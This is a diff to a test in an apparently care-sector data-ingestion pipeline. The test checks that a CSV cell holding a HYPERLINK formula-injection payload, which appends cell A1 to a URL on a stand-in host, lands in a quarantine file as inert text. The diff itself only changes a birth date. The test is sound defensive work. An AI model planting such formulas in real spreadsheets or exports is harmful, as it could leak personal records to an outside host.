@@ -184,7 +184,7 @@ def test_a_formula_in_a_raw_cell_reaches_the_quarantine_as_text(tmp_path):
     from caresurvey.ingest.pipeline import ingest_files
 
     path = tmp_path / "header.csv"
-    path.write_text('CHILD,SEX,DOB,ETHNIC\n1,"=HYPERLINK(""http://example.org/?""&A1,""x"")",01/01/2010,WBRI\n')
+    path.write_text('CHILD,SEX,DOB,ETHNIC\n1,"=HYPERLINK(""http://example.org/?""&A1,""x"")",31/01/2010,WBRI\n')
     ingest_files("ssda903-csv", [path], tmp_path / "out", key=b"a test key of 24 bytes..", la="LA1")
     quarantine = pd.read_csv(tmp_path / "out" / "quarantine.csv", dtype=str)
     # opened in a spreadsheet, the analyst sees the text: the leading apostrophe stops it running
